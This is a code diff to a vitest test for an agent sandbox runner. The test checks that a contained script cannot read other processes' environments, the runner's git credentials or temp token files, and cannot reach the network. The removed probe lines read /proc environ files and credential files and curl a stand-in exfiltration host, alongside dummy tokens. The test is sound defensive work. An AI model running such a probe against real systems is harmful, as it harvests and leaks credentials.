@@ -5,7 +5,7 @@ import { describe, expect, it } from 'vitest';
 import { commandAgent, secretNames } from '../../src/agent/command.js';
 import { containmentProblem } from '../../src/agent/contain.js';
 import { agentRun, runAgent } from '../../src/agent/run.js';
-import { tempFolders } from './helpers.js';
+import { JOB_SECRETS, runnerWithSecrets, tempFolders } from './helpers.js';
 
 // An agent of your own (templates/yoke-run.yml): .github/yoke/run.sh from the
 // commit the workflow was dispatched on, run contained by yoke's runner like
@@ -64,27 +64,14 @@ describe('an agent of your own, as data', () => {
 
 describe.skipIf(!haveBwrap)('an agent of your own, contained', () => {
   it("TR20 run.sh reading every environ it can see, the runner's git credentials and temp files finds only the secret it was given; the network is refused", async () => {
-    const runnerHome = tmp('yoke-own-home-');
-    writeFileSync(join(runnerHome, '.git-credentials'), 'https://x-access-token:ghs_credentialsfile0123456789@github.com\n');
-    const runnerTemp = tmp('yoke-own-rt-');
-    writeFileSync(join(runnerTemp, 'yoke-out.json'), '{"token":"ghs_runnertempfile0123456789"}');
-    const probe = [
-      'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" < "$f"; done > seen.txt 2>&1',
-      `cat ${runnerHome}/.git-credentials ${runnerTemp}/yoke-out.json >> seen.txt 2>&1`,
-      'ps -eo pid,args >> seen.txt 2>&1',
-      'curl -sS -m 5 https://exfil.example/ >> seen.txt 2>&1; echo "exfil=$?" >> seen.txt',
-      'true',
-    ].join('\n');
+    const { runnerHome, runnerTemp, probe: lines } = runnerWithSecrets(tmp);
+    const probe = [...lines, 'true'].join('\n');
     const { cwd } = checkout('', '');
     const env: Record<string, string> = {
       PATH: process.env.PATH ?? '/usr/bin:/bin',
       HOME: runnerHome,
       RUNNER_TEMP: runnerTemp,
-      GITHUB_TOKEN: 'ghs_jobtoken0123456789abcdef',
-      ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789',
-      ACTIONS_ID_TOKEN_REQUEST_URL: 'http://runner.invalid/oidc',
-      ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789',
-      YOKE_RUN_SECRET: 'run-secret-0123456789abcdef',
+      ...JOB_SECRETS,
       NOT_NAMED_KEY: 'unnamed-secret-0123456789',
       MY_MODEL_KEY: 'my-model-key-0123456789',
     };
